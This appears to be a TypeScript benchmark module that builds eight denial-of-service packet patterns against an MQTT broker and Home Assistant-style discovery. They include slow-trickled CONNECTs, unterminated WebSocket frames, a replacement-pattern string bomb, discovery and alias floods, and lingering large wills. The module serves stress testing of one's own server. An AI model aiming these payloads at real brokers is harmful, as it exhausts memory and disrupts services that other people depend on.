// What attackers of the MQTT door write. One writes to some connections in turn, so much at each
// move: the bench says how many moves a second. Nothing is sent here.

import { generate } from 'mqtt-packet'
import type { IConnectPacket, IPublishPacket, Packet } from 'mqtt-packet'

/** Without a key, then with one. */
export const MQTT_ATTACKS = [
  'trickles',
  'unfinished',
  'templates',
  'discovery',
  'aliases',
  'wills',
  'deaf',
  'repeats',
] as const
export type MqttAttackName = (typeof MQTT_ATTACKS)[number]

/** One of the connections of an attack. */
export interface Place {
  readonly key: string
  /** Its number, from 0 on, among those of the attack. */
  readonly index: number
  /** Connections that had this place before. */
  readonly turn: number
}

/** One write: to the socket, or a frame of a WebSocket with its first byte. */
export interface Write {
  readonly opcode: number
  readonly bytes: Buffer
}

export interface MqttAttack {
  readonly carrier: (index: number) => 'tcp' | 'websocket'
  readonly connections: number
  /** `deaf`: it reads nothing beyond the opening. `until-answered`: its first answer is its end. */
  readonly reading: 'all' | 'deaf' | 'until-answered'
  /** Writes of a new connection. */
  opening(place: Place): readonly Write[]
  /** Writes of move `n` of a connection. */
  move(place: Place, n: number): readonly Write[]
}

const FRAME = { whole: 0x82, begun: 0x02, continued: 0x00 } as const
const LARGE = 64_000
const HOUR_SECONDS = 3_600
/** Moves after which a Thing or topic comes again. */
const ROUND = 65_536

const whole = (...packets: readonly Packet[]): readonly Write[] =>
  packets.map((packet) => ({
    opcode: FRAME.whole,
    bytes: generate(packet, { protocolVersion: 5 }),
  }))

const connect = ({ key, index, turn }: Place, more: Partial<IConnectPacket> = {}): Packet => ({
  cmd: 'connect',
  protocolId: 'MQTT',
  protocolVersion: 5,
  clean: true,
  clientId: `attacker-${process.pid}-${index}-${turn}`,
  keepalive: 0xffff,
  username: key,
  ...more,
})

const publish = (topic: string, payload: unknown, more: Partial<IPublishPacket> = {}): Packet => ({
  cmd: 'publish',
  topic,
  payload: typeof payload === 'string' ? payload : JSON.stringify(payload),
  qos: 0,
  dup: false,
  retain: false,
  ...more,
})

const open = (place: Place): readonly Write[] => whole(connect(place))
const overTcp = {
  carrier: () => 'tcp',
  reading: 'all',
  opening: open,
} as const satisfies Partial<MqttAttack>

/** A CONNECT that takes many small writes. */
const longConnect = (place: Place): Buffer =>
  generate(
    connect(place, {
      will: { topic: 'messages', payload: Buffer.alloc(LARGE), qos: 0, retain: false },
    }),
  )

const BYTES_OF_MOVE = 64

/** Half of them over TCP, where the bytes come in segments, and half in messages of WebSocket. */
const TRICKLES: MqttAttack = {
  carrier: (index) => (index % 2 === 0 ? 'tcp' : 'websocket'),
  connections: 4,
  reading: 'all',
  opening: () => [],
  move(place, n) {
    const from = n * BYTES_OF_MOVE
    const bytes = [...longConnect(place).subarray(from, from + BYTES_OF_MOVE)]
    const writes = bytes.map((byte) => ({ opcode: FRAME.whole, bytes: Buffer.of(byte) }))
    return [...writes, { opcode: FRAME.whole, bytes: Buffer.alloc(0) }]
  },
}

const PARTS = 4

/** Each connection begins a message of WebSocket that it never ends. */
const UNFINISHED: MqttAttack = {
  carrier: () => 'websocket',
  connections: 512,
  reading: 'all',
  opening: () =>
    Array.from({ length: PARTS }, (_, part) => ({
      opcode: part === 0 ? FRAME.begun : FRAME.continued,
      bytes: Buffer.alloc(LARGE),
    })),
  move: () => [],
}

/** Their product is a text of 400 MB, somewhat below the longest that V8 makes. */
const PATTERNS = 2_000
const TAIL_LENGTH = 200_000

/** Discovery whose base topic is a pattern of replacement that stands for the rest of the text. */
const TEMPLATES: MqttAttack = {
  ...overTcp,
  connections: 1,
  move: () => {
    const config = { '~': "$'".repeat(PATTERNS), stat_t: '~'.padEnd(TAIL_LENGTH, '/x') }
    return whole(publish('homeassistant/sensor/attacker/config', config))
  },
}

/** Discovery of one new value after the other, some 500 bytes each. */
const DISCOVERY: MqttAttack = {
  ...overTcp,
  connections: 4,
  move({ index }, n) {
    const id = `attacker-${index}-${n % ROUND}`
    const text = 'x'.repeat(300)
    const config = { stat_t: `state/${id}`, name: text, dev: { ids: [id], name: id } }
    return whole(publish(`homeassistant/sensor/${id}/config`, config))
  },
}

const ALIASES = 32

/** Every alias that a connection may set, each for the longest topic. */
const LONG_ALIASES: MqttAttack = {
  ...overTcp,
  connections: 64,
  move: (_, n) =>
    whole(
      publish(`t/${'x'.repeat(LARGE)}`, '1', { properties: { topicAlias: 1 + (n % ALIASES) } }),
    ),
}

/** Clients that are gone as soon as they are there, and leave a will behind for an hour. */
const WILLS: MqttAttack = {
  ...overTcp,
  connections: 64,
  reading: 'until-answered',
  opening(place) {
    const will = {
      topic: 'messages',
      payload: Buffer.alloc(LARGE, 'x'),
      qos: 0 as const,
      retain: false,
      properties: { willDelayInterval: HOUR_SECONDS },
    }
    const properties = { sessionExpiryInterval: HOUR_SECONDS }
    return whole(connect(place, { will, properties }))
  },
  move: () => [],
}

const TEXT_LENGTH = 30_000
const THINGS = 64

/** The first one publishes; the others follow the channel, read nothing, and subscribe again. */
const DEAF: MqttAttack = {
  ...overTcp,
  connections: 17,
  reading: 'deaf',
  move({ index }, n) {
    const attrs = { text: String(n).padEnd(TEXT_LENGTH, 'x') }
    if (index === 0) return whole(publish(`things/attacker-${n % THINGS}`, { attrs }))
    const subscriptions = [{ topic: 'things/#', qos: 1 as const }]
    return whole({ cmd: 'subscribe', messageId: 1 + (n % 0xffff), subscriptions })
  },
}

const OP_IDS = 16

/** Updates of Things under a few op_ids. */
const REPEATS: MqttAttack = {
  ...overTcp,
  connections: 8,
  move({ index }, n) {
    const attrs = { n, text: 'x'.repeat(4_000) }
    const properties = { userProperties: { op_id: `attacker-${n % OP_IDS}` } }
    const more = { properties, qos: 1, messageId: 1 + (n % 0xffff) } as const
    return whole(publish(`things/attacker-${index}`, { attrs }, more))
  },
}

export const ATTACKS: Readonly<Record<MqttAttackName, MqttAttack>> = {
  trickles: TRICKLES,
  unfinished: UNFINISHED,
  templates: TEMPLATES,
  discovery: DISCOVERY,
  aliases: LONG_ALIASES,
  wills: WILLS,
  deaf: DEAF,
  repeats: REPEATS,
}
